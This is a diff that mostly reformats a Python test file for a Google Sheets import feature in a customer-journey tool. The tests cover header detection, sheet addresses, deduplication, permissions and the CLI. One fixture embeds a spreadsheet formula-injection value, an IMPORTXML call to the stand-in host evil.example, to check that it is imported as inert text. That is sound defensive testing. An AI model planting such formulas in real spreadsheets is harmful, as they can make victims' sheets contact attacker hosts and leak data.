@@ -33,17 +33,48 @@ FORMULA = '=IMPORTXML("https://evil.example/x","//a")'
 HUMAN_SHEET = [
     [],
     ["Date", "Customer", "What happened", "", "Stage", "Severity", "Customer", "Owner"],
-    ["2026-03-02", "Acme", "SSO login loops back to the start", "", "SSO & user provisioning", "High", "acme.com",
-     "Eng"],
+    [
+        "2026-03-02",
+        "Acme",
+        "SSO login loops back to the start",
+        "",
+        "SSO & user provisioning",
+        "High",
+        "acme.com",
+        "Eng",
+    ],
     ["03/03/2026", "Globex", FORMULA, "", "Data import", "Low"],
     [],
     ["2026-03-04", "Initech", "Invoice PDF is blank", "", "Moon base", "Medium"],
-    ["2026-03-05 09:30", "Umbrella", "Webhook retries flood our endpoint", "", "Integrations & API", "urgent"],
+    [
+        "2026-03-05 09:30",
+        "Umbrella",
+        "Webhook retries flood our endpoint",
+        "",
+        "Integrations & API",
+        "urgent",
+    ],
     ["2026-03-06", "Hooli", "", "", "Data import", "Low"],
-    ["2026-03-07", "Acme", "Search finds nothing for SAML", "", "Help center search", "", "", "", "", "ask Sam"],
+    [
+        "2026-03-07",
+        "Acme",
+        "Search finds nothing for SAML",
+        "",
+        "Help center search",
+        "",
+        "",
+        "",
+        "",
+        "ask Sam",
+    ],
 ]
-MAPPING = {"Date": "created_at", "Customer": "account", "What happened": "title", "Stage": "touchpoint",
-           "Severity": "severity"}
+MAPPING = {
+    "Date": "created_at",
+    "Customer": "account",
+    "What happened": "title",
+    "Stage": "touchpoint",
+    "Severity": "severity",
+}
 GOOD_ROWS, BAD_ROWS = [3, 4, 7, 9], [6, 8]
 
 
@@ -69,8 +100,11 @@ def fake_sheet(rows=HUMAN_SHEET, name: str | None = None) -> tuple[FakeSheetsSer
 
 
 def profile_for(store, **changes) -> Profile:
-    return save_profile(store, profile=Profile("Team sheet", "google_sheet", MAPPING, default_source="other",
-                                               **changes), actor=COUNCIL)
+    return save_profile(
+        store,
+        profile=Profile("Team sheet", "google_sheet", MAPPING, default_source="other", **changes),
+        actor=COUNCIL,
+    )
 
 
 def pull(store, name: str, profile: Profile, **kwargs):
@@ -88,8 +122,18 @@ def titles(store) -> list[str]:
 
 def test_the_header_is_the_first_filled_row_and_records_carry_sheet_row_numbers():
     table = sheet_table(HUMAN_SHEET)
-    assert table.header == ["Date", "Customer", "What happened", "Column 4", "Stage", "Severity", "Customer (2)",
-                            "Owner", "Column 9", "Column 10"]
+    assert table.header == [
+        "Date",
+        "Customer",
+        "What happened",
+        "Column 4",
+        "Stage",
+        "Severity",
+        "Customer (2)",
+        "Owner",
+        "Column 9",
+        "Column 10",
+    ]
     records = list(table.records())
     assert [r.number for r in records] == [3, 4, 6, 7, 8, 9]
     assert records[1].values["What happened"] == FORMULA and records[-1].values["Column 10"] == "ask Sam"
@@ -100,12 +144,15 @@ def test_an_empty_worksheet_is_refused_with_a_reason():
         sheet_table([[], ["", " "]])
 
 
-@pytest.mark.parametrize("text, expected", [
-    ("https://docs.google.com/spreadsheets/d/1AbC_d-9/edit#gid=0", SheetAddress("1AbC_d-9")),
-    ("gsheets://1AbC/Friction%20log", SheetAddress("1AbC", "Friction log")),
-    ("gsheets+fake://team", SheetAddress("team", fake=True)),
-    ("1AbC_d-9", SheetAddress("1AbC_d-9")),
-])
+@pytest.mark.parametrize(
+    "text, expected",
+    [
+        ("https://docs.google.com/spreadsheets/d/1AbC_d-9/edit#gid=0", SheetAddress("1AbC_d-9")),
+        ("gsheets://1AbC/Friction%20log", SheetAddress("1AbC", "Friction log")),
+        ("gsheets+fake://team", SheetAddress("team", fake=True)),
+        ("1AbC_d-9", SheetAddress("1AbC_d-9")),
+    ],
+)
 def test_sheet_addresses_in_every_form_people_paste(text, expected):
     assert parse_address(text) == expected
 
@@ -135,8 +182,12 @@ def test_an_unreachable_sheets_says_so():
     server.create_spreadsheet("offline")
     server.offline = True
     with pytest.raises(SheetsUnavailable, match="cannot be reached.*not read"):
-        read_table(SheetAddress("offline"), service_account=service_account_info(), transport=server,
-                   retry=RetryPolicy(waits=()))
+        read_table(
+            SheetAddress("offline"),
+            service_account=service_account_info(),
+            transport=server,
+            retry=RetryPolicy(waits=()),
+        )
 
 
 def test_without_a_service_account_the_message_says_where_to_put_one(monkeypatch):
@@ -161,12 +212,21 @@ def test_good_rows_become_signals_and_bad_rows_errors_with_their_sheet_row(journ
     assert (report.rows_read, report.imported, report.count("error")) == (6, 4, 2) and report.balanced
     assert sorted(p.row for p in report.problems) == BAD_ROWS
     assert "Moon base" in next(p.message for p in report.problems if p.row == 6)
-    assert titles(journey_store) == ["SSO login loops back to the start", FORMULA,
-                                     "Webhook retries flood our endpoint", "Search finds nothing for SAML"]
+    assert titles(journey_store) == [
+        "SSO login loops back to the start",
+        FORMULA,
+        "Webhook retries flood our endpoint",
+        "Search finds nothing for SAML",
+    ]
     with journey_store.read() as session:
         acme = session.exec(select(Signal).where(Signal.title.startswith("SSO"))).one()
-        notes = list(session.exec(select(Event.note).where(Event.entity == "signal", Event.entity_id == acme.id,
-                                                           Event.action == "created")))
+        notes = list(
+            session.exec(
+                select(Event.note).where(
+                    Event.entity == "signal", Event.entity_id == acme.id, Event.action == "created"
+                )
+            )
+        )
     assert (acme.account, acme.severity, acme.created_at.day) == ("Acme", "high", 2)
     assert acme.external_ref.startswith(f"https://docs.google.com/spreadsheets/d/{name}/edit#cxos-row=")
     assert notes == ["imported from Google Sheet “Friction log”, row 3"]
@@ -179,7 +239,11 @@ def test_pulling_again_imports_nothing_twice_even_after_sorting_the_sheet(journe
     rows = server.rows(name, WORKSHEET)
     server.spreadsheets[name][WORKSHEET].rows = rows[:2] + list(reversed(rows[2:]))  # sorted, newest first
     report = pull(journey_store, name, profile)
-    assert (report.imported, report.count("duplicate"), report.count("error")) == (0, 4, 2) and report.balanced
+    assert (report.imported, report.count("duplicate"), report.count("error")) == (
+        0,
+        4,
+        2,
+    ) and report.balanced
     assert len(titles(journey_store)) == 4
 
 
@@ -189,7 +253,9 @@ def test_a_row_added_to_the_sheet_is_the_only_one_the_next_pull_imports(journey_
     pull(journey_store, name, profile)
     for col, value in enumerate(["2026-03-09", "Stark", "Bulk edit times out", "", "Data import", "High"], 1):
         server.set_cell(name, WORKSHEET, 11, col, value)
-    server.set_cell(name, WORKSHEET, 3, 8, "Priya")  # someone fills in the Owner column: not a change to a signal
+    server.set_cell(
+        name, WORKSHEET, 3, 8, "Priya"
+    )  # someone fills in the Owner column: not a change to a signal
     report = pull(journey_store, name, profile)
     assert report.imported == 1 and report.count("duplicate") == 4
     assert titles(journey_store)[-1] == "Bulk edit times out"
@@ -205,12 +271,23 @@ def test_an_edited_row_comes_in_as_a_new_signal(journey_store):
 
 
 def test_a_ticket_column_is_the_reference_and_rows_without_one_get_a_content_key(journey_store):
-    rows = [["Ticket", "What happened", "Stage"], ["1001", "Export is slow", "Data import"],
-            ["", "Import wizard crashes", "Data import"]]
+    rows = [
+        ["Ticket", "What happened", "Stage"],
+        ["1001", "Export is slow", "Data import"],
+        ["", "Import wizard crashes", "Data import"],
+    ]
     _, name, _ = fake_sheet(rows)
-    profile = save_profile(journey_store, actor=COUNCIL, profile=Profile(
-        "Tickets sheet", "google_sheet", {"Ticket": "external_ref", "What happened": "title", "Stage": "touchpoint"},
-        default_source="ticket", ref_prefix="ZD-"))
+    profile = save_profile(
+        journey_store,
+        actor=COUNCIL,
+        profile=Profile(
+            "Tickets sheet",
+            "google_sheet",
+            {"Ticket": "external_ref", "What happened": "title", "Stage": "touchpoint"},
+            default_source="ticket",
+            ref_prefix="ZD-",
+        ),
+    )
     assert pull(journey_store, name, profile).imported == 2
     assert pull(journey_store, name, profile).count("duplicate") == 2
     with journey_store.read() as session:
@@ -242,9 +319,15 @@ def test_the_connection_and_its_profile_round_trip(journey_store):
     assert get_profile(journey_store, "Team sheet").mapping == MAPPING
     with journey_store.read() as session:
         setting = session.exec(select(Setting).where(Setting.key == CONNECTION_KEY)).one()
-        event = session.exec(select(Event).where(Event.entity == "setting", Event.entity_id == setting.id)).one()
-    assert json.loads(setting.value) == {"spreadsheet_id": "1AbC", "worksheet": WORKSHEET, "profile": "Team sheet",
-                                         "fake": False}
+        event = session.exec(
+            select(Event).where(Event.entity == "setting", Event.entity_id == setting.id)
+        ).one()
+    assert json.loads(setting.value) == {
+        "spreadsheet_id": "1AbC",
+        "worksheet": WORKSHEET,
+        "profile": "Team sheet",
+        "fake": False,
+    }
     assert event.actor == COUNCIL.name
 
 
@@ -253,8 +336,9 @@ def test_a_connection_needs_a_saved_profile_and_the_council_role(journey_store):
         save_connection(journey_store, connection=SheetConnection("1AbC", WORKSHEET, "Nope"), actor=COUNCIL)
     profile_for(journey_store)
     with pytest.raises(NotAllowed):
-        save_connection(journey_store, connection=SheetConnection("1AbC", WORKSHEET, "Team sheet"),
-                        actor=CONTRIBUTOR)
+        save_connection(
+            journey_store, connection=SheetConnection("1AbC", WORKSHEET, "Team sheet"), actor=CONTRIBUTOR
+        )
     assert load_connection(journey_store) is None
 
 
@@ -266,12 +350,23 @@ def test_cli_imports_a_sheet_then_pulls_the_connected_sheet_without_duplicates(j
 
     server, name, _ = fake_sheet()
     profile_for(journey_store)
-    code = main(["--database-url", journey_store.url, "import", f"gsheets+fake://{name}/Friction%20log",
-                 "--profile", "Team sheet", "--json"])
+    code = main(
+        [
+            "--database-url",
+            journey_store.url,
+            "import",
+            f"gsheets+fake://{name}/Friction%20log",
+            "--profile",
+            "Team sheet",
+            "--json",
+        ]
+    )
     result = json.loads(capsys.readouterr().out)
     assert code == 0 and (result["rows_read"], result["imported"], result["errors"]) == (6, 4, 2)
     assert sorted(p["row"] for p in result["problems"]) == BAD_ROWS and result["kind"] == "google_sheet"
-    save_connection(journey_store, connection=SheetConnection(name, WORKSHEET, "Team sheet", fake=True), actor=COUNCIL)
+    save_connection(
+        journey_store, connection=SheetConnection(name, WORKSHEET, "Team sheet", fake=True), actor=COUNCIL
+    )
     server.set_cell(name, WORKSHEET, 12, 3, "Dark mode hides the save button")
     server.set_cell(name, WORKSHEET, 12, 5, "First workflow")
     main(["--database-url", journey_store.url, "import", "--connected"])
@@ -297,8 +392,13 @@ def sheet_tab(demo_db, address: str):
 
 
 def map_team_sheet(at):
-    for field_name, column in [("title", "What happened"), ("touchpoint", "Stage"), ("account", "Customer"),
-                               ("created_at", "Date"), ("severity", "Severity")]:
+    for field_name, column in [
+        ("title", "What happened"),
+        ("touchpoint", "Stage"),
+        ("account", "Customer"),
+        ("created_at", "Date"),
+        ("severity", "Severity"),
+    ]:
         at.selectbox(key=f"sheet_map_Generic CSV_{field_name}").set_value(column)
     at.selectbox(key="sheet_source_Generic CSV").set_value("other")
     return at.run()
